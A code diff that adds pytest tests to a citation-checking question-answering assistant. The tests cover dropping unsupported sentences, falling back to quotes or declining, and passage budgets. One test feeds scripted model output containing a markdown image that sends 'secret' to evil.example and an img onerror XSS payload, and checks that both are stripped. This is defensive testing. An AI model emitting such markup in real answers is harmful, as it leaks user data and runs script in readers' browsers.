@@ -4,6 +4,7 @@ import pytest
 from scripted_model import ScriptedModel, key_of
 
 from assistant import Answer, Assistant, Filters, Turn
+from assistant.serialising import answer_as_json
 from assistant.settings import load_settings
 from assistant.texts import text
 
@@ -174,6 +175,73 @@ def test_what_no_article_supports_is_not_shown(sample, keys):
     assert answer.notice
 
 
+@pytest.mark.parametrize(
+    ("sentence", "kind"),
+    [
+        ("Benvitimod cream was approved in May 2018", "date"),
+        ("Benvitimod cream was approved in May 2019 for 500 hospitals", "number"),
+        ("The FDA approved benvitimod cream in May 2019", "institution"),
+        ("Li Ming approved benvitimod cream in May 2019", "person"),
+        ("Bananas are cheap in winter", "meaning"),
+    ],
+)
+def test_a_sentence_that_fails_is_kept_apart_with_its_reason(sample, sentence, kind):
+    def script(shown):
+        key = key_of(shown, "May 2019")
+        return f"{sentence} [{key}]. Benvitimod cream was approved in May 2019 [{key}]."
+
+    with with_model(sample, script) as assistant:
+        *pieces, answer = assistant.stream("When was benvitimod cream approved?")
+    check_citations(sample, answer)
+    assert "".join(pieces).strip() == answer.text == "Benvitimod cream was approved in May 2019. [1]"
+    (dropped,) = answer.dropped
+    assert (dropped.text, dropped.kind) == (f"{sentence}.", kind)
+    assert dropped.reason("en") != dropped.reason("zh")
+    assert answer_as_json(answer)["dropped"] == [
+        {"text": dropped.text, "kind": kind, "en": dropped.en, "zh": dropped.zh}
+    ]
+
+
+def test_when_everything_fails_quotes_answer_and_what_failed_is_kept(sample):
+    with with_model(
+        sample, lambda shown: f"Benvitimod cream was approved in May 1999 [{key_of(shown, 'May 2019')}]."
+    ) as assistant:
+        answer = assistant.ask("When was benvitimod cream approved?")
+    assert answer.mode == "quote"
+    assert "May 2019" in answer.text
+    assert [one.kind for one in answer.dropped] == ["date"]
+
+
+def test_when_everything_fails_and_no_quote_answers_it_declines(sample):
+    with with_model(sample, lambda shown: "Bananas won the prize of 9 billion yuan.") as assistant:
+        answer = assistant.ask("best dumpling recipe")
+    assert answer.declined
+    assert answer.citations == ()
+    assert len(answer.dropped) == 1
+
+
+def test_nothing_of_the_models_own_comes_alive(sample):
+    def script(shown):
+        key = key_of(shown, "May 2019")
+        return (
+            f"![p](https://evil.example/?q=secret)Benvitimod cream was **approved** <img src=x onerror=alert(1)> in "
+            f"May 2019 [{key}][1][99](https://evil.example)."
+        )
+
+    with with_model(sample, script) as assistant:
+        answer = assistant.ask("When was benvitimod cream approved?")
+    check_citations(sample, answer)
+    assert answer.text == "Benvitimod cream was approved in May 2019. [1]"
+
+
+def test_a_model_is_given_no_more_than_the_budget(sample):
+    model = ScriptedModel(script=lambda shown: "NOT_IN_THE_ARTICLES")
+    settings = load_settings(home=sample.settings.home, passage_tokens=300)
+    with Assistant.open(settings=settings, model=model, embedder=sample.library._embedder) as assistant:
+        assistant.ask("When was benvitimod cream approved?")
+    assert model.asked[0].count("<passage ") == 1
+
+
 def test_the_model_declines(sample):
     with with_model(sample, lambda shown: "NOT_IN_THE_ARTICLES") as assistant:
         answer = assistant.ask("When was benvitimod cream approved?")
@@ -228,7 +296,11 @@ def test_a_model_rewrites_the_follow_up(sample):
     )
     with with_model(sample, lambda shown: next(said)) as assistant:
         answer = assistant.ask(
-            "and third?", history=[Turn("user", "Who won first prize?"), Turn("assistant", "Guo Wei.")]
+            "and third?",
+            history=[
+                Turn("user", "Who won first prize in the 2022 Chinese Medical Science and Technology Award?"),
+                Turn("assistant", "Guo Wei."),
+            ],
         )
     assert answer.rewritten.startswith("Who won the third prize")
 
